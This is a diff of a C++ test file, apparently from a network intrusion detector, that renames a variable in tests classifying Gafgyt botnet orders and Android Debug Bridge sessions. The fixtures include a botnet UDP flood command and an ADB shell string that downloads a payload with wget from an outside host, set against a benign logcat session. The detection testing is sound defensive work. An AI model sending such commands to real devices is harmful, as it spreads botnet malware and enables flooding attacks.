@@ -223,9 +223,9 @@ TEST_CASE("streams of the list: Gafgyt's bot and its orders, and the Android deb
     Dialogue orders{4258};
     orders.server("!* UDP 203.0.113.9 80 60 32 0 10\n");
     CHECK(observed(bot_talk, orders).at(0).entry == 251);
-    Dialogue adb{5555};
-    adb.client("CNXN\1\1\1\1host::OPENshell:cd /data/local/tmp; wget http://198.51.100.7/x");
-    CHECK(observed(bot_talk, adb).at(0).kind == ObservationKind::exploit);
+    Dialogue shell{5555};
+    shell.client("CNXN\1\1\1\1host::OPENshell:cd /data/local/tmp; wget http://198.51.100.7/x");
+    CHECK(observed(bot_talk, shell).at(0).kind == ObservationKind::exploit);
     Dialogue developer{5555};
     developer.client("CNXN\1\1\1\1host::OPENshell:logcat");
     CHECK(observed(bot_talk, developer).empty());
